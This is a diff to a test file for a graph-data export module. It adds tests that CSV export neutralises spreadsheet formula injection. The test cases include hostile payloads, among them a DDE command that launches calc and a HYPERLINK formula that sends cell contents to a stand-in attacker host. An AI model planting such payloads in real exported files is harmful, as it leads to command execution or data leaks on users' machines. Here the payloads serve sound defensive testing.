@@ -3,7 +3,7 @@
 import Graph, { MultiDirectedGraph } from 'graphology';
 import { parse as parseGexf } from 'graphology-gexf';
 import { parse as parseGraphml } from 'graphology-graphml';
-import { EXPORT_FORMATS, exportFileName, renderExport, toGexf, toGraphml, tenuresToCsv, participationsToCsv, toJson } from '../../src/export';
+import { EXPORT_FORMATS, exportFileName, renderExport, toCsv, toGexf, toGraphml, tenuresToCsv, participationsToCsv, toJson } from '../../src/export';
 import { NETWORK, PARTICIPATIONS, TENURES } from './network-fixture';
 
 /** A small RFC 4180 reader, so the test does not trust the writer's own idea of quoting. */
@@ -91,6 +91,29 @@ describe('CSV', () => {
     expect(rows[2][2]).toBe('Phó Chủ tịch, Thường trực');
     expect(rows[2][4]).toBe("'=cmd()");
     expect(rows[2][9]).toBe('');
+  });
+
+  it.each([
+    ['=cmd|\' /C calc\'!A0'],
+    ['+1+1'],
+    ['-1+HYPERLINK("https://evil.example/?leak="&A1,"xem")'],
+    ['-2'],
+    ['--05-13'],
+    ['@SUM(1+1)'],
+    ['\t=1+1'],
+    ['\r=1+1'],
+  ])('a text a spreadsheet would evaluate is made text: %j', (payload) => {
+    const text = tenuresToCsv([{ ...TENURES[0], personName: payload, title: payload }]);
+    const rows = readCsv(text);
+    expect(rows[1][1]).toBe(`'${payload}`);
+    expect(rows[1][2]).toBe(`'${payload}`);
+    // No cell of the file, as a spreadsheet splits it, starts with a formula character.
+    for (const c of rows.flat()) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('numbers stay numbers, negative ones too; harmless text is unchanged', () => {
+    const text = toCsv(['label', 'weight', 'x'], [['-1+HYPERLINK("x")', -3, -0.5], ['Đồng chí A', 12, 0], [' =1', 1e21, null]]);
+    expect(text.split('\r\n').slice(1, 4)).toEqual([`"'-1+HYPERLINK(""x"")",-3,-0.5`, 'Đồng chí A,12,0', ' =1,1e+21,']);
   });
 
   it('meeting participation: roles joined, a title with a newline stays one cell', () => {
